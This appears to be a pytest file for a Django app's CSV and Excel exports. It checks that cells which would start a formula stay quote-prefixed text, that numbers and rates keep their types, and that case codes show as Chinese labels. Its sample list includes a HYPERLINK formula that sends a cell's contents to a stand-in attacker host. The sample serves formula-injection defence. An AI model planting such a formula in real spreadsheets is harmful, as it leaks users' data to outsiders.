"""Exports a person can open safely and read: text that a spreadsheet would run as a formula stays text (Excel and
CSV), numbers stay numbers (a negative one too), rates are numbers with a percent format, and codes are shown as
their labels in the user's language."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from gridgov import exports
from gridgov.cases.actions import report_case
from gridgov.cases.tests.conftest import POINT, at

pytestmark = pytest.mark.django_db
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1")


def in_xml(text: str) -> str:
    return text.replace("\r", "\n")  # XML reads a bare carriage return back as a line feed


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def table(*rows) -> exports.Table:
    return exports.Table("t", "测试", ["text", "number", "rate"], list(rows))


def test_a_cell_that_would_start_a_formula_stays_text_with_its_visible_text():
    data = table(*([text, -3, exports.rate(0.994)] for text in FORMULAS))
    ws = sheet(exports.render(data, "xlsx"))
    for text, row in zip(FORMULAS, ws.iter_rows(min_row=2), strict=True):  # shows the same characters, as text
        assert (row[0].value, row[0].data_type, row[0].quotePrefix) == (in_xml(text), "s", True)
    assert [r[0] for r in csv_rows(exports.render(data, "csv"))[1:]] == ["'" + text for text in FORMULAS]


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is():
    data = table(["-3 降", -3, exports.rate(-0.5)], ["正常", Decimal("-5000.50"), exports.rate(None)],
                 ["日期", date(2026, 11, 23), exports.rate(1)])
    ws = sheet(exports.render(data, "xlsx"))
    cells = [[(c.value, c.data_type) for c in row] for row in ws.iter_rows(min_row=2)]
    assert cells[0][1] == (-3, "n") and cells[1][1] == (-5000.5, "n")
    assert (cells[0][0], cells[1][0]) == (("-3 降", "s"), ("正常", "s"))  # Excel: quote-prefixed, same text
    assert ws["C2"].value == -0.5 and ws["C2"].number_format == "0.0%" and ws["C3"].value is None
    assert ws["C4"].value == 1 and ws["C4"].number_format == "0.0%"
    rows = csv_rows(exports.render(data, "csv"))
    assert rows[1] == ["'-3 降", "-3", "-0.5"] and rows[2] == ["正常", "-5000.50", ""]
    assert rows[3][1:] == ["2026-11-23", "1"]
    assert str(exports.rate(0.99438)) == "99.4%" and str(exports.rate(None)) == "—"


def test_the_case_export_shows_labels_and_neutralises_descriptions(town, client):
    cat = town.cat["0102"]
    for i, text in enumerate(FORMULAS):
        report_case(town.people.worker, category=cat, description=text, lon=POINT[0], lat=POINT[1],
                    now=at(2026, 11, 23, 9, i))
    client.force_login(town.people.dispatcher)
    rows = csv_rows(client.get("/desk/cases.csv", {"view": "all"}, HTTP_ACCEPT_LANGUAGE="zh-hans"))
    assert rows[0][:6] == ["编号", "状态", "类别", "紧急程度", "渠道", "网格"]
    assert {tuple(r[1:5]) for r in rows[1:]} == {("已上报", cat.name, "一般", "网格员App")}
    assert {r[9] for r in rows[1:]} == {"否"}  # overdue: no
    assert sorted(r[11] for r in rows[1:]) == sorted("'" + t for t in FORMULAS)
    ws = sheet(client.get("/desk/cases.xlsx", {"view": "all"}, HTTP_ACCEPT_LANGUAGE="zh-hans"))
    described = [(r[11].value, r[11].data_type) for r in ws.iter_rows(min_row=2)]
    assert sorted(described) == sorted((in_xml(t), "s") for t in FORMULAS)
    assert {r[3].value for r in ws.iter_rows(min_row=2)} == {"一般"}
